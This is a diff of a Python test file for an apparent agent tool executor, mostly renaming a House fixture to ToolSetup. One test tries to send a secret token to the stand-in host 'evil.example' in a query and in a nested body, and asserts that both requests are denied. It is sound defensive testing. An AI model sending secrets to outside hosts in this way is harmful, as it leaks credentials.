@@ -5,7 +5,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from tool_setup import House, Person, local
+from tool_setup import Person, ToolSetup, local
 
 from hermes.core.actions import Action, Decision
 from hermes.core.events.tools import ToolDecided, ToolRequested
@@ -62,9 +62,9 @@ def find_secret(text: str, origin: str) -> str:
 
 
 @pytest.fixture
-async def house(tmp_path: Path) -> AsyncGenerator[House, None]:
+async def setup(tmp_path: Path) -> AsyncGenerator[ToolSetup, None]:
     async with local(tmp_path) as environment:
-        made = House(environment, {"ask": Asking()}, policy=Allow(), person=Person(says=False))
+        made = ToolSetup(environment, {"ask": Asking()}, policy=Allow(), person=Person(says=False))
         made.executor = Executor(
             {"ask": Asking()}, Allow(), made.person, made.bus, find_secret=find_secret
         )
@@ -72,27 +72,27 @@ async def house(tmp_path: Path) -> AsyncGenerator[House, None]:
 
 
 @pytest.mark.command
-async def test_the_action_says_where_it_acts_and_what_it_sends(house: House) -> None:
+async def test_the_action_says_where_it_acts_and_what_it_sends(setup: ToolSetup) -> None:
     policy = Allow()
-    await house.executor.with_policy(policy).execute(ToolCall("1", "ask", {}), house.context())
+    await setup.executor.with_policy(policy).execute(ToolCall("1", "ask", {}), setup.context())
     [action] = policy.seen
     assert action.remote == RemoteTarget(kind="prometheus", host="prom.example")
     assert action.request is not None
     assert action.request.method == "GET"
     assert (action.target, action.isolated) == ("prom.example", False)
-    [asked] = [event for event in house.journal.events if isinstance(event, ToolRequested)]
+    [asked] = [event for event in setup.journal.events if isinstance(event, ToolRequested)]
     assert (asked.remote, asked.definition) == (action.remote, action.definition)
 
 
 @pytest.mark.command
-async def test_a_secret_leaves_only_for_the_host_that_it_is_for(house: House) -> None:
-    kept = await house.result("ask", url="https://evil.example/", query=f"x{TOKEN}y")
+async def test_a_secret_leaves_only_for_the_host_that_it_is_for(setup: ToolSetup) -> None:
+    kept = await setup.result("ask", url="https://evil.example/", query=f"x{TOKEN}y")
     assert kept.status == "denied"
     assert "PROM_TOKEN" in kept.content
-    nested = await house.result("ask", url="https://evil.example/", body={"a": [{TOKEN: 1}]})
+    nested = await setup.result("ask", url="https://evil.example/", body={"a": [{TOKEN: 1}]})
     assert nested.status == "denied"
-    assert await house.ok("ask", query=TOKEN) == "answered"
-    decided = [event.rule for event in house.journal.events if isinstance(event, ToolDecided)]
+    assert await setup.ok("ask", query=TOKEN) == "answered"
+    decided = [event.rule for event in setup.journal.events if isinstance(event, ToolDecided)]
     assert decided == [SECRET_RULE, SECRET_RULE, "all"]
 
 
@@ -110,7 +110,7 @@ def test_a_later_layer_cannot_take_the_name_of_a_built_in() -> None:
     assert LayeredTools(first, second, replaced=("terminal",))["terminal"] is skill_create
 
 
-async def test_investigators_get_what_a_person_classed_as_read(house: House) -> None:
+async def test_investigators_get_what_a_person_classed_as_read(setup: ToolSetup) -> None:
     tools: dict[str, Tool] = {"ask": Asking(), "change": Asking(Risk.CHANGE), "own": skill_call}
-    executor = Executor(tools, Allow(), house.person, house.bus)
+    executor = Executor(tools, Allow(), setup.person, setup.bus)
     assert [spec.name for spec in read_only_executor(executor).specs] == ["ask"]
